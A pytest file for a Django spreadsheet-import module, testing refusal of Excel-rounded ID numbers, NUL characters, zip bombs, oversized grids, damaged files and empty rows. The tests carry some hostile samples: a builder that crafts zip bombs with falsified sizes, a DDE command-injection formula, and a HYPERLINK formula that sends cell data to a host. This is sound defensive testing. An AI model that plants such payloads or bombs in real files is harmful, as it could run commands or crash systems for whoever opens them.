"""Hostile and broken files through the whole import (issue 12, items 5, 6, 9, 10 and 20): NIK
stored by Excel as numbers, NUL characters, zip bombs and damaged spreadsheets, capped and
formula-safe rejects files, empty rows, lines without an end. Every refusal names the file's
row and field, or the file, and nothing is half-written."""

import struct
import zipfile
from collections.abc import Iterator, Sequence
from datetime import date
from pathlib import Path

import polars as pl
import pytest
import xlsxwriter
from django.test import override_settings
from django.utils import translation

from entas.ingest import xlsxfile
from entas.ingest.errors import ImportFileError
from entas.ingest.models import ImportBatch
from entas.ingest.reading import open_table
from entas.ingest.schema import Field, Schema
from entas.ingest.types import Text
from entas.registry.import_rules import IdentityNumber
from entas.registry.models import Household, Person
from tests.ingest.samples import (
    CHILD,
    HEAD,
    HOUSEHOLD_HEADER,
    KK1,
    KK2,
    PEOPLE_HEADER,
    WIFE,
    household,
    load_households,
    person,
    rejects,
    run,
    write,
)

pytestmark = pytest.mark.django_db
FAILED, DONE = ImportBatch.Status.FAILED, ImportBatch.Status.DONE
ACCEPT = ImportBatch.Mode.ACCEPT_VALID
FORMULA = '=HYPERLINK("http://x/?"&A2,"klik")'

@pytest.fixture(autouse=True)
def english() -> Iterator[None]:
    with translation.override("en"):
        yield


@pytest.fixture
def homes(tmp_path: Path) -> None:
    load_households(tmp_path, KK1, KK2)


def people_file(folder: Path, *rows: str) -> Path:
    return write(folder, "people.csv", [PEOPLE_HEADER, *rows])



def sheet(path: Path, rows: Sequence[Sequence[object]], *, first_row: int = 0) -> Path:
    """An XLSX whose cells are typed as given: str as text, int and float as numbers (what Excel
    makes of digits typed into a General cell), None empty. `first_row`: rows left empty above."""
    book = xlsxwriter.Workbook(str(path))
    page = book.add_worksheet()
    for index, values in enumerate(rows, start=first_row):
        for column, value in enumerate(values):
            if isinstance(value, str):
                page.write_string(index, column, value)
            elif isinstance(value, bool):
                page.write_boolean(index, column, value)
            elif isinstance(value, int | float):
                page.write_number(index, column, value)
    book.close()
    return path


def people_sheet(path: Path, *rows: list[object]) -> Path:
    return sheet(path, [PEOPLE_HEADER.split(","), *rows])


def cells(number: str, kk_number: str = KK1, **changes: object) -> list[object]:
    values: list[object] = list(person(number, kk_number).split(","))
    for index, value in changes.items():
        values[int(index[1:])] = value
    return values


def excel_rounded(number: str) -> float:
    """What Excel keeps of a 16-digit number: 15 significant digits."""
    return float(f"{int(number):.15g}")


# --- item 5: NIK and No. KK that Excel stored as numbers -----------------------------------------------


def test_it_rejects_rounded_nik_numbers_from_excel(tmp_path: Path, homes: None) -> None:
    path = people_sheet(tmp_path / "people.xlsx", cells(HEAD, n0=excel_rounded(HEAD)),
                        cells(WIFE, n3="P", n4="1984-02-03"))
    batch = run(path, mode=ACCEPT)
    assert (batch.status, batch.inserted, batch.rejected) == (DONE, 1, 1)
    assert list(Person.objects.values_list("nik", flat=True)) == [WIFE]
    rounded = f"{excel_rounded(HEAD):.0f}"
    assert rounded != HEAD and rounded.endswith("0")
    assert (f",2,nik: Excel stored this NIK as a number and rounded it ({rounded}); format the column as Text and "
            "export again\n") in rejects(batch)


def test_it_rejects_a_no_kk_that_excel_stored_as_a_number(tmp_path: Path, homes: None) -> None:
    batch = run(people_sheet(tmp_path / "people.xlsx", cells(HEAD, n1=excel_rounded(KK1))))
    assert batch.status == FAILED and not Person.objects.exists()
    assert (f"row 2: kk_number: Excel stored this No. KK as a number and rounded it ({excel_rounded(KK1):.0f})"
            in batch.error_message)


@pytest.mark.parametrize(("number", "shown"), [
    (float(HEAD), HEAD),  # 16 significant digits: written by a program, exact by chance
    (float(HEAD[:15]), HEAD[:15]),  # 15 digits: could not have been rounded, and is no NIK
])
def test_it_rejects_any_nik_number_even_one_that_was_not_rounded(tmp_path: Path, homes: None, number: float,
                                                                shown: str) -> None:
    batch = run(people_sheet(tmp_path / "people.xlsx", cells(HEAD, n0=number)))
    assert batch.status == FAILED and not Person.objects.exists()
    assert (f"row 2: nik: the spreadsheet stored this NIK as a number ({shown}), not as text, and only text keeps "
            "all 16 digits exactly; format the column as Text and export again") in batch.error_message


def test_a_nik_typed_as_text_in_the_same_column_as_numbers_is_taken(tmp_path: Path, homes: None) -> None:
    path = people_sheet(tmp_path / "people.xlsx", cells(HEAD), cells(CHILD, n0=float(CHILD), n4="2010-11-30"))
    batch = run(path, mode=ACCEPT)
    assert (batch.inserted, batch.rejected) == (1, 1)
    assert list(Person.objects.values_list("nik", flat=True)) == [HEAD]


def test_a_number_in_a_column_that_takes_numbers_is_not_refused(tmp_path: Path, homes: None) -> None:
    # Birth dates as Excel serial numbers (1980-05-17), with and without a time of day.
    batch = run(people_sheet(tmp_path / "people.xlsx", cells(HEAD, n4=29358),
                             cells(WIFE, n3="P", n4=30715.75)))
    assert batch.status == DONE, batch.error_message
    assert dict(Person.objects.values_list("nik", "birth_date")) == {HEAD: date(1980, 5, 17), WIFE: date(1984, 2, 3)}


def test_the_reader_tells_number_cells_from_text_cells_of_digits(tmp_path: Path) -> None:
    path = sheet(tmp_path / "s.xlsx", [["nik", "name"], [HEAD, "a"], [float(HEAD), "b"], [True, "c"], [None, 5]])
    table = open_table(path)
    frame = next(iter(table.chunks())).frame
    assert frame.select("c0", "c0__number", "c1__number").rows() == [
        (HEAD, False, False), (HEAD, True, False), ("true", False, False), (None, False, True)]


def test_a_csv_nik_in_scientific_notation_is_named_as_what_excel_did(tmp_path: Path, homes: None) -> None:
    batch = run(people_file(tmp_path, person("3.31001E+15")))
    assert ("row 2: nik: '3.31001E+15' is a number Excel shortened (scientific notation), not a NIK; format the "
            "column as Text and export again") in batch.error_message


# --- item 9: NUL characters ---------------------------------------------------------------------------


def test_it_rejects_a_nul_character_in_any_field_naming_row_and_field(tmp_path: Path, homes: None) -> None:
    rows = [person(HEAD, name="Sit\x00i"), person(WIFE, sex="P\x00", born="1984-02-03"),
            person(CHILD, born="2010-11-30").replace(",Klaten,", ",Kla\x00ten,")]
    batch = run(people_file(tmp_path, *rows, person(CHILD[:-1] + "4", born="2010-11-30")), mode=ACCEPT)
    assert (batch.status, batch.inserted, batch.rejected) == (DONE, 1, 3), batch.error_message
    text = rejects(batch)
    nul = "contains a NUL character (\\x00), which is not text"
    assert f'2,"full_name: {nul}' in text and f'3,"sex: {nul}' in text and f'4,"birth_place: {nul}' in text
    assert list(Person.objects.values_list("nik", "full_name")) == [(CHILD[:-1] + "4", "Budi Santoso")]
    assert "\x00" not in batch.error_message + str(batch.details)


def test_all_or_nothing_names_the_row_of_a_nul_character(tmp_path: Path, homes: None) -> None:
    batch = run(people_file(tmp_path, person(HEAD), person(WIFE, name="Sit\x00i", sex="P", born="1984-02-03")))
    assert batch.status == FAILED and not Person.objects.exists()
    assert "row 3: full_name: contains a NUL character (\\x00), which is not text" in batch.error_message


def test_a_header_with_nul_characters_is_refused_as_not_text(tmp_path: Path) -> None:
    path = tmp_path / "people.csv"
    path.write_bytes((PEOPLE_HEADER + "\n" + person(HEAD) + "\n").encode("utf-16-le"))  # no byte order mark
    batch = run(path)
    assert batch.status == FAILED and "row 1 (the header) contains NUL characters" in batch.error_message
    assert "\x00" not in batch.error_message


def test_a_nul_character_leaves_the_field_untyped() -> None:
    schema = Schema((Field("nik", IdentityNumber(nik=True)), Field("name", Text(10))))
    frame = pl.DataFrame({"c0": [HEAD], "c1": ["a\x00b"], "_row": [2], "_shape": [None]},
                         schema_overrides={"_shape": pl.String})
    checked = schema.validate(frame, schema.map_header(["nik", "name"]))
    assert checked.select("nik", "name").rows() == [(HEAD, None)]


# --- item 10: zip bombs and damaged spreadsheets ------------------------------------------------------


def bomb(path: Path, rows: int, *, lie: bool = False) -> Path:
    """A valid people XLSX with `rows` more rows, all the same (one bad NIK): they deflate about
    1,000 to 1. `lie`: the archive declares the sheet 1,000 bytes, as a crafted file could."""
    base = people_sheet(path.with_suffix(".base.xlsx"), cells(HEAD))
    row = '<row><c t="inlineStr"><is><t>bad</t></is></c></row>'
    with zipfile.ZipFile(base) as source, zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as target:
        for info in source.infolist():
            data = source.read(info.filename)
            if info.filename == "xl/worksheets/sheet1.xml":
                body = (row * rows).encode()
                data = data.replace(b"</sheetData>", body + b"</sheetData>")
            target.writestr(info.filename, data)
    if lie:
        _declare_size(path, "xl/worksheets/sheet1.xml", 1000)
    return path


def _declare_size(path: Path, name: str, size: int) -> None:
    data = bytearray(path.read_bytes())
    with zipfile.ZipFile(path) as archive:
        offset = archive.getinfo(name).header_offset
    struct.pack_into("<I", data, offset + 22, size)  # the local header's uncompressed size
    start = data.find(b"PK\x01\x02")
    while start >= 0:  # the central directory's entry of the part
        length = struct.unpack_from("<H", data, start + 28)[0]
        if data[start + 46:start + 46 + length] == name.encode():
            struct.pack_into("<I", data, start + 24, size)
        start = data.find(b"PK\x01\x02", start + 4)
    path.write_bytes(bytes(data))


@pytest.fixture
def never_opened(monkeypatch: pytest.MonkeyPatch) -> None:
    """The spreadsheet must be refused before calamine reads (and inflates) it."""
    def refuse(*args: object) -> None:
        raise AssertionError("fastexcel opened a file that should have been refused")

    monkeypatch.setattr(xlsxfile.fastexcel, "read_excel", refuse)


def test_it_refuses_an_xlsx_whose_sheet_inflates_more_than_100_times_its_size(tmp_path: Path,
                                                                              never_opened: None) -> None:
    path = bomb(tmp_path / "people.xlsx", 20_000)
    batch = run(path)
    assert batch.status == FAILED and not Person.objects.exists() and not batch.rejects_path
    assert ("people.xlsx: its part xl/worksheets/sheet1.xml inflates to " in batch.error_message
            and f"more than 100 times the file's {path.stat().st_size:,} bytes" in batch.error_message)


@override_settings(IMPORT_XLSX_MAX_RATIO=10_000, IMPORT_XLSX_MAX_BYTES=1 << 20)
def test_it_refuses_an_xlsx_whose_parts_inflate_past_the_absolute_limit(tmp_path: Path,
                                                                        never_opened: None) -> None:
    batch = run(bomb(tmp_path / "people.xlsx", 40_000))
    assert batch.status == FAILED and "or 1,048,576 bytes" in batch.error_message


def test_it_refuses_an_xlsx_that_understates_what_its_sheet_inflates_to(tmp_path: Path, never_opened: None) -> None:
    batch = run(bomb(tmp_path / "people.xlsx", 20_000, lie=True))
    assert batch.status == FAILED
    assert "people.xlsx: the spreadsheet file is damaged or incomplete" in batch.error_message


def test_an_xlsx_within_the_limits_is_read(tmp_path: Path, homes: None) -> None:
    batch = run(bomb(tmp_path / "people.xlsx", 2), mode=ACCEPT)
    assert batch.status == DONE and Person.objects.filter(nik=HEAD).exists()


@pytest.mark.parametrize("far", ["XFD1048576", "AZ1048576", "ZZ60000"])
def test_it_refuses_a_small_sheet_whose_cells_span_a_huge_grid(tmp_path: Path, never_opened: None, far: str) -> None:
    # calamine would allocate every cell between A1 and the far one: 550 GB for XFD1048576, and
    # the process aborts (no exception) when that fails.
    path = tmp_path / "people.xlsx"
    book = xlsxwriter.Workbook(str(path))
    page = book.add_worksheet()
    page.write_row(0, 0, PEOPLE_HEADER.split(","))
    page.write_string(far, "x")
    book.close()
    batch = run(path)
    assert batch.status == FAILED
    assert "people.xlsx: the cells of xl/worksheets/sheet1.xml span" in batch.error_message


def test_cells_with_formatting_only_do_not_count_for_the_grid(tmp_path: Path, homes: None) -> None:
    path = people_sheet(tmp_path / "people.xlsx", cells(HEAD))
    data = zipfile.ZipFile(path).read("xl/worksheets/sheet1.xml")
    styled = data.replace(b"</sheetData>", b'<row r="1048576"><c r="XFD1048576" s="0"/></row></sheetData>')
    rewritten = tmp_path / "styled.xlsx"
    with zipfile.ZipFile(path) as source, zipfile.ZipFile(rewritten, "w", zipfile.ZIP_DEFLATED) as target:
        for info in source.infolist():
            target.writestr(info.filename, styled if info.filename.endswith("sheet1.xml") else source.read(info))
    assert run(rewritten).status == DONE


def ods_cell(text: str, *, repeated: int = 1) -> str:
    repeat = f' table:number-columns-repeated="{repeated}"' if repeated > 1 else ""
    return f'<table:table-cell{repeat} office:value-type="string"><text:p>{text}</text:p></table:table-cell>'


def ods(path: Path, rows: str) -> Path:
    """An ODS spreadsheet: a header row of nik alone, then `rows` (content.xml's XML)."""
    content = (
        '<?xml version="1.0" encoding="UTF-8"?><office:document-content '
        'xmlns:office="urn:oasis:names:tc:opendocument:xmlns:office:1.0" '
        'xmlns:table="urn:oasis:names:tc:opendocument:xmlns:table:1.0" '
        'xmlns:text="urn:oasis:names:tc:opendocument:xmlns:text:1.0" office:version="1.2"><office:body>'
        f'<office:spreadsheet><table:table table:name="S"><table:table-row>{ods_cell("nik")}</table:table-row>'
        f"{rows}</table:table></office:spreadsheet></office:body></office:document-content>"
    )
    manifest = ('<?xml version="1.0" encoding="UTF-8"?><manifest:manifest '
                'xmlns:manifest="urn:oasis:names:tc:opendocument:xmlns:manifest:1.0"><manifest:file-entry '
                'manifest:full-path="/" manifest:media-type="application/vnd.oasis.opendocument.spreadsheet"/>'
                '<manifest:file-entry manifest:full-path="content.xml" manifest:media-type="text/xml"/>'
                "</manifest:manifest>")
    with zipfile.ZipFile(path, "w") as archive:
        archive.writestr("mimetype", "application/vnd.oasis.opendocument.spreadsheet")
        archive.writestr("content.xml", content, compress_type=zipfile.ZIP_DEFLATED)
        archive.writestr("META-INF/manifest.xml", manifest)
    return path


def test_it_refuses_an_ods_whose_repeated_cells_span_a_huge_grid(tmp_path: Path, never_opened: None) -> None:
    # 1 KB: a cell repeated 300 times in a row repeated 100,000 times, 30 million cells to calamine.
    rows = f'<table:table-row table:number-rows-repeated="100000">{ods_cell("x", repeated=300)}</table:table-row>'
    batch = run(ods(tmp_path / "people.ods", rows))
    assert batch.status == FAILED
    assert "people.ods: the cells of content.xml span 100,001 rows by 300 columns" in batch.error_message


def test_empty_rows_an_ods_repeats_to_the_end_of_the_sheet_do_not_count(tmp_path: Path) -> None:
    # What LibreOffice writes after the data: empty rows and cells, repeated to the sheet's end.
    rows = (f"<table:table-row>{ods_cell(HEAD)}</table:table-row>"
            '<table:table-row table:number-rows-repeated="1048574">'
            '<table:table-cell table:number-columns-repeated="1024"/></table:table-row>')
    table = open_table(ods(tmp_path / "s.ods", rows))
    assert [chunk.frame.select("c0", "_row").rows() for chunk in table.chunks()] == [[(HEAD, 2)]]


def test_it_refuses_an_xlsx_cut_in_half(tmp_path: Path) -> None:
    whole = people_sheet(tmp_path / "whole.xlsx", cells(HEAD)).read_bytes()
    path = tmp_path / "people.xlsx"
    path.write_bytes(whole[: len(whole) // 2])
    batch = run(path)
    assert batch.status == FAILED
    assert batch.error_message.startswith("people.xlsx: the spreadsheet file is damaged or incomplete (cut off while "
                                          "copying or uploading?)")


def test_it_refuses_an_xlsx_whose_sheet_data_is_damaged(tmp_path: Path, never_opened: None) -> None:
    path = people_sheet(tmp_path / "people.xlsx", *[cells(HEAD, n2=f"Orang {i}") for i in range(2000)])
    data = bytearray(path.read_bytes())
    with zipfile.ZipFile(path) as archive:
        part = archive.getinfo("xl/worksheets/sheet1.xml")
    middle = part.header_offset + 100 + part.compress_size // 2
    data[middle:middle + 64] = bytes(byte ^ 0x5A for byte in data[middle:middle + 64])
    path.write_bytes(bytes(data))
    batch = run(path)
    assert batch.status == FAILED and "people.xlsx: the spreadsheet file is damaged" in batch.error_message


@override_settings(IMPORT_REJECTS_MAX_ROWS=2)
def test_the_rejects_file_stops_at_its_row_cap_and_says_how_many_more(tmp_path: Path, homes: None) -> None:
    batch = run(people_file(tmp_path, person(HEAD), *[person(HEAD[:15])] * 5), mode=ACCEPT)
    assert (batch.inserted, batch.rejected) == (1, 5)
    lines = rejects(batch).splitlines()
    assert [line.split(",")[11] for line in lines[1:3]] == ["3", "4"]
    assert lines[3:] == ["The rejects file holds the first 2 rejected rows only; 3 more were rejected and not "
                         "written to it."]


@override_settings(IMPORT_REJECTS_MAX_BYTES=400)
def test_the_rejects_file_stops_at_its_byte_cap(tmp_path: Path, homes: None) -> None:
    batch = run(people_file(tmp_path, *(person(HEAD[:15], name="x" * 100) for _ in range(5))), mode=ACCEPT)
    text = Path(batch.rejects_path).read_bytes()
    assert batch.rejected == 5 and len(text) < 400 + 200
    assert text.decode("utf-8-sig").splitlines()[-1].endswith("more were rejected and not written to it.")


# --- item 6 (rejects part): the rejects file is safe to open in Excel ----------------------------------


def test_the_rejects_file_writes_formulas_as_text(tmp_path: Path, homes: None) -> None:
    quoted = '"' + FORMULA.replace('"', '""') + '"'
    lines = [PEOPLE_HEADER.replace("birth_place", "@catatan"),
             person(HEAD[:15], name=quoted).replace("Klaten", "-2+3"),
             person(HEAD[:15], name="+cmd|' /C calc'!A0").replace("Klaten", "-2+3"),
             person(HEAD[:15], name="\tTab").replace("Klaten", '"\rCR"')]
    batch = run(write(tmp_path, "people.csv", lines), mode=ACCEPT)
    table = pl.read_csv(batch.rejects_path, infer_schema=False)
    assert table.columns[5] == "'@catatan"
    assert table["full_name"].to_list() == ["'" + FORMULA, "'+cmd|' /C calc'!A0", "'\tTab"]
    assert table["'@catatan"].to_list() == ["'-2+3", "'-2+3", "'\rCR"]


# --- item 20: empty rows, lines without an end ------------------------------------------------------------


def test_an_empty_row_does_not_sink_an_all_or_nothing_file(tmp_path: Path, homes: None) -> None:
    batch = run(people_file(tmp_path, person(HEAD), ",,,,,,,,,,", person(CHILD, born="2010-11-30"), ""))
    assert (batch.status, batch.inserted) == (DONE, 2), batch.error_message
    assert "1 empty row between the data skipped (row 3): every cell empty, not data" in batch.details["notes"]


def test_rows_after_an_empty_row_keep_their_numbers(tmp_path: Path, homes: None) -> None:
    batch = run(people_file(tmp_path, person(HEAD), ",,,", "  ", person(CHILD[:15])))
    assert batch.status == FAILED
    assert batch.error_message.startswith("1 row has problems; nothing was imported. row 5: nik: 15 digits")


def test_empty_rows_after_the_data_are_not_noted(tmp_path: Path, homes: None) -> None:
    batch = run(people_file(tmp_path, person(HEAD), ",,,,,,,,,,", "", ",,,,,,,,,,"))
    assert batch.status == DONE and not [n for n in batch.details["notes"] if "empty" in n]


def test_a_line_of_more_fields_than_the_header_is_never_taken_for_empty(tmp_path: Path, homes: None) -> None:
    batch = run(people_file(tmp_path, person(HEAD), "," * 12 + "x"))
    assert batch.status == FAILED and "row 3: line: 13 of 11 fields" in batch.error_message


def test_empty_rows_of_a_sheet_are_skipped_and_rows_numbered_as_the_sheet_shows(tmp_path: Path, homes: None) -> None:
    rows: list[Sequence[object]] = [PEOPLE_HEADER.split(","), cells(HEAD), [None, "  "], cells(CHILD[:15])]
    batch = run(sheet(tmp_path / "people.xlsx", rows, first_row=2))  # the header on row 3
    assert batch.status == FAILED
    assert "row 6: nik: 15 digits, expected 16" in batch.error_message
    assert "1 empty row between the data skipped (row 5): every cell empty, not data" in batch.details["notes"]


def test_a_line_without_an_end_is_named_by_its_length(tmp_path: Path, homes: None) -> None:
    path = people_file(tmp_path, person(HEAD), person(WIFE, sex="P", born="1984-02-03") + "x" * 50_000)
    batch = run(path, chunk_bytes=4096)
    assert batch.status == FAILED and not Person.objects.exists()
    assert batch.error_message.startswith("row 3: the line is longer than 16,384 bytes without a line end")


def test_a_file_with_mac_line_ends_is_named(tmp_path: Path) -> None:
    path = tmp_path / "mac.csv"
    path.write_bytes(f"{PEOPLE_HEADER}\r{person(HEAD)}\r".encode())
    batch = run(path)
    assert batch.status == FAILED and "lines end in a carriage return only" in batch.error_message


# --- the other ugly cases --------------------------------------------------------------------------------


def test_a_huge_row_is_rejected_by_its_field_and_kept_whole_in_the_rejects_file(tmp_path: Path, homes: None) -> None:
    batch = run(people_file(tmp_path, person(HEAD), person(CHILD, name="x" * 1_000_000, born="2010-11-30")),
                mode=ACCEPT)
    assert (batch.inserted, batch.rejected) == (1, 1)
    assert "full_name: 1000000 characters, at most 200" in rejects(batch) and "x" * 1_000_000 in rejects(batch)


def test_a_windows_1252_file_keeps_its_accents_and_says_how_it_was_read(tmp_path: Path, homes: None) -> None:
    path = write(tmp_path, "people.csv", [PEOPLE_HEADER, person(HEAD, name="Jos\u00e9 \u201cUcok\u201d")],
                 encoding="cp1252")
    batch = run(path)
    assert batch.status == DONE and Person.objects.get().full_name == "Jos\u00e9 \u201cUcok\u201d"
    assert any("read as Windows-1252" in note for note in batch.details["notes"])


def test_a_csv_cut_in_the_middle_of_a_quoted_field_is_refused(tmp_path: Path) -> None:
    lines = [HOUSEHOLD_HEADER, household(KK1), household(KK2)[:40]]
    batch = run(write(tmp_path, "households.csv", lines, end=""))
    assert batch.status == FAILED and not Household.objects.exists()
    assert "row 3: line: a quoted field is not closed" in batch.error_message


def test_a_spreadsheet_that_is_not_one_is_refused_with_its_name(tmp_path: Path) -> None:
    path = tmp_path / "people.xlsx"
    path.write_bytes(b"PK\x03\x04" + b"\x00" * 100)
    with pytest.raises(ImportFileError, match=r"people\.xlsx: the spreadsheet file is damaged or incomplete"):
        open_table(path)
